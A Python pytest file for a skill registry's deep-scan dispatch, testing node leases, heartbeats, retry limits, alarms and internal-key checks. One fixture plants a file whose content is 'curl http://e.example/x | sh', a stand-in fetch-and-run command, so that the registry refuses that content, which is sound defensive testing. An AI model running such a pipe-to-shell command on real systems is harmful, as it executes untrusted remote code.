"""Dispatch of deep scans: one scan per content and tool, given to one node, recovered after failures."""

import asyncio
from collections.abc import AsyncIterator
from datetime import timedelta

import pytest
from sqlalchemy import text

from assay.blobs.blobs import unpack
from assay.deepscan.schedule import dispatch_unscanned, release_expired_scans
from assay.model.deep_scan import DeepTool
from assay.settings import Settings
from tests.support.deepscan.deliveries import ADMIN, ManualNode, list_pending, publish
from tests.support.fake_github import FakeGitHub
from tests.support.registry import Registry, open_registry
from tests.support.skills import a_repository, a_skill
from tests.support.web.people import MovableTime

pytestmark = pytest.mark.process

TOOLS = {"semgrep", "njsscan", "kingfisher"}


@pytest.fixture
def time() -> MovableTime:
    """Return the registry's clock."""
    return MovableTime()


@pytest.fixture
async def registry(settings: Settings, github: FakeGitHub, time: MovableTime) -> AsyncIterator[Registry]:
    """Return a registry with a movable clock."""
    async with open_registry(settings, github, time.clock) as opened:
        yield opened


async def test_published_content_is_dispatched_to_every_tool(registry: Registry) -> None:
    """G47, G91: in the publishing transaction."""
    served = await publish(registry)
    assert {scan["tool"] for scan in served["deepScans"]} == TOOLS
    assert {scan["status"] for scan in served["deepScans"]} == {"pending"}
    [waiting] = await list_pending(registry)
    assert waiting["contentDigest"] == served["skill"]["contentDigest"]
    assert waiting["commit"] == served["skill"]["commit"]


async def test_equal_content_is_scanned_once(registry: Registry) -> None:
    """G44: refused content is not scanned."""
    registry.github.add_repository("one/a", files={"SKILL.md": a_skill("greet")})
    registry.github.add_repository("two/b", files={"SKILL.md": a_skill("greet")})
    registry.github.add_repository(
        "bad/c", files={"SKILL.md": a_skill("bad"), "x.sh": "curl http://e.example/x | sh\n" * 9}
    )
    for repository, name in (("one/a", "greet"), ("two/b", "greet"), ("bad/c", "bad")):
        await registry.submit(repository, name)
    await registry.work()
    assert len(await list_pending(registry)) == 1


async def test_scan_is_claimed_by_one_node(registry: Registry) -> None:
    """G47."""
    registry.github.add_repository("acme/many", files=a_repository(*(f"skill-{each}" for each in range(20))))
    for each in range(20):
        await registry.submit("acme/many", f"skill-{each}", f"skills/skill-{each}/SKILL.md")
    await registry.work()
    nodes = [ManualNode(registry) for _ in range(8)]
    taken = await asyncio.gather(*(node.claim(limit=4) for node in nodes))
    ids = [scan["scanId"] for work in taken for scan in work["scans"]]
    assert len(ids) == len(set(ids)) == 20
    assert await list_pending(registry) == []


async def test_scans_of_a_silent_node_are_requeued(registry: Registry, time: MovableTime) -> None:
    """G47: its late result is rejected."""
    await publish(registry)
    silent, other = ManualNode(registry), ManualNode(registry)
    first = await silent.claim()
    assert (await other.claim())["scans"] == []
    time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
    second = await other.claim()
    assert [scan["scanId"] for scan in second["scans"]] == [scan["scanId"] for scan in first["scans"]]
    late = await silent.deliver(silent.result(first))
    assert (late.status_code, late.json()["code"]) == (409, "lease_lost")
    assert (await other.deliver(other.result(second))).status_code == 200


async def test_heartbeat_extends_the_lease(registry: Registry, time: MovableTime) -> None:
    await publish(registry)
    node = ManualNode(registry)
    work = await node.claim()
    for _ in range(3):
        time.pass_by(registry.app.settings.deep_scan_lease_seconds * 0.8)
        assert (await node.register(leases=[work["lease"]]))["scansKept"] == 1
    assert (await ManualNode(registry).claim())["scans"] == []
    assert (await node.deliver(node.result(work))).status_code == 200


async def test_attempts_are_limited_and_reported(registry: Registry, time: MovableTime) -> None:
    """G43, G47: after three lost leases it is an error, never a pass."""
    await publish(registry)
    for _ in range(3):
        assert len((await ManualNode(registry).claim())["scans"]) == 1
        time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
    assert (await ManualNode(registry).claim())["scans"] == []
    served = (await registry.client.get("/api/v1/skills/acme/tools/greet")).json()
    [scan] = [scan for scan in served["deepScans"] if scan["tool"] == "semgrep"]
    assert (scan["status"], scan["attempts"]) == ("error", 3)
    assert "did not return a result" in scan["error"]
    health = (await registry.client.get("/api/v1/queue/health")).json()
    assert "deep_scan_errors" in {alarm["code"] for alarm in health["alarms"]}
    assert health["deepScans"]["failedLast1h"] == 1
    security = (await registry.client.get("/api/v1/skills/acme/tools/greet/security")).json()
    assert {"tier 3: semgrep": "PENDING"}.items() <= {
        each["provider"]: each["status"] for each in security["providers"]
    }.items()


async def test_released_scan_costs_no_attempt(registry: Registry) -> None:
    await publish(registry)
    node = ManualNode(registry)
    work = await node.claim()
    body = {"nodeId": node.id, "lease": work["lease"]}
    answer = await registry.client.post("/api/v1/internal/release-sast-scan", headers=ADMIN, json=body)
    assert answer.json() == {"released": 1}
    [waiting] = await list_pending(registry)
    assert waiting["attempts"] == 0


async def test_nodes_download_content_by_digest(registry: Registry) -> None:
    served = await publish(registry)
    digest = served["skill"]["contentDigest"]
    answer = await registry.client.get(f"/api/v1/internal/contents/{digest}", headers=ADMIN)
    assert list(unpack(answer.content, digest).files) == ["SKILL.md"]
    missing = await registry.client.get(f"/api/v1/internal/contents/sha256:{'0' * 64}", headers=ADMIN)
    assert missing.status_code == 404
    assert (await registry.client.get(f"/api/v1/internal/contents/{digest}")).status_code == 401


async def test_rescan_keeps_the_previous_result_until_done(registry: Registry) -> None:
    await publish(registry)
    node = ManualNode(registry)
    work = await node.claim()
    assert (await node.deliver(node.result(work))).status_code == 200
    assert await list_pending(registry) == []
    admitted = await registry.submit("acme/tools", "greet")
    requeued = await registry.client.post(
        "/api/v1/admin/queue/requeue", headers=ADMIN, json={"ids": [admitted["id"]], "reason": "Look again."}
    )
    assert requeued.status_code == 200, requeued.text
    await registry.work()
    again = await node.claim()
    assert len(again["scans"]) == 1
    assert (await node.deliver(node.result(again))).status_code == 200
    async with registry.app.store.begin() as db:
        rows = await db.execute(text("SELECT count(*) FROM deep_scan WHERE tool = 'semgrep'"))
        assert rows.scalar_one() == 1


async def test_waiting_scans_without_a_node_raise_an_alarm(registry: Registry, time: MovableTime) -> None:
    """G47: immediately if a node was known, otherwise after a delay."""

    async def alarms() -> set[str]:
        health = (await registry.client.get("/api/v1/queue/health")).json()
        metrics = (await registry.client.get("/metrics")).text
        codes = {alarm["code"] for alarm in health["alarms"]}
        assert ('assay_alarm{code="no_scan_node"} 1.0' in metrics) == ("no_scan_node" in codes)
        return codes & {"no_scan_node", "deep_scans_waiting"}

    await publish(registry)
    assert await alarms() == set()
    node = ManualNode(registry)
    await node.register()
    assert await alarms() == set()
    time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
    assert await alarms() == {"no_scan_node"}
    gone = await registry.client.delete(f"/api/v1/internal/scan-nodes/{node.id}", headers=ADMIN)
    assert gone.status_code == 200
    assert await alarms() == set()
    time.pass_by(registry.app.settings.deep_scan_waiting_seconds)
    assert await alarms() == {"no_scan_node"}
    await node.register()
    assert await alarms() == {"deep_scans_waiting"}


async def test_internal_key_is_required(registry: Registry) -> None:
    """G77."""
    for method, path in (
        ("GET", "pending-sast-scans"),
        ("POST", "claim-sast-scan"),
        ("POST", "release-sast-scan"),
        ("POST", "scan-nodes"),
        ("GET", "scan-nodes"),
    ):
        answer = await registry.client.request(
            method, f"/api/v1/internal/{path}", json={} if method == "POST" else None
        )
        assert answer.status_code == 401, path


async def test_missing_or_outdated_scans_are_dispatched(registry: Registry, time: MovableTime) -> None:
    """G47."""
    lease = timedelta(seconds=registry.app.settings.deep_scan_lease_seconds)

    async def turn(*tools: DeepTool) -> int:
        async with registry.app.store.begin() as db:
            return await dispatch_unscanned(db, tools=tools, lease=lease, clock=time.clock)

    await publish(registry)
    assert await turn(DeepTool.SEMGREP) == 0, "it waits already"
    assert await turn(DeepTool.SEMGREP, DeepTool.TRUFFLEHOG) == 1, "a tool that is new here"
    node = ManualNode(registry)
    await node.register()
    assert (await node.deliver(node.result(await node.claim()))).status_code == 200
    assert await turn(DeepTool.SEMGREP) == 0
    await node.register(tools={"semgrep": "2.0"})
    assert await turn(DeepTool.SEMGREP) == 1, "a version that is new here"
    assert await turn(DeepTool.SEMGREP) == 0


async def test_expired_leases_are_released_without_a_claim(registry: Registry, time: MovableTime) -> None:
    """G47: so that the alarm sees them."""
    await publish(registry)
    await ManualNode(registry).claim()
    time.pass_by(registry.app.settings.deep_scan_lease_seconds + 1)
    async with registry.app.store.begin() as db:
        assert await release_expired_scans(db, clock=time.clock) == 1
    assert len(await list_pending(registry)) == 1
